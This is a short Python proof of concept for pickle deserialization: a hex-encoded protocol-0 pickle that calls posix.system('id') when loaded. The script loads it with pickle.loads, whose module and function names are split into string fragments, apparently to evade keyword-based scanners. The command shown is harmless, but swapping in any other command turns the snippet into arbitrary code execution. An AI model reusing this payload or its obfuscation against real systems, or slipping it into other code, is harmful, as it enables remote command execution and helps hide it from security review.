# A protocol-0 pickle stored as hex: GLOBAL posix.system, then REDUCE with
# the tuple ('id',). Unpickling runs the command.
blob = bytes.fromhex('63706f7369780a73797374656d0a285669640a74522e')
ld = getattr(__import__('pic' + 'kle'), 'lo' + 'ads')
ld(blob)
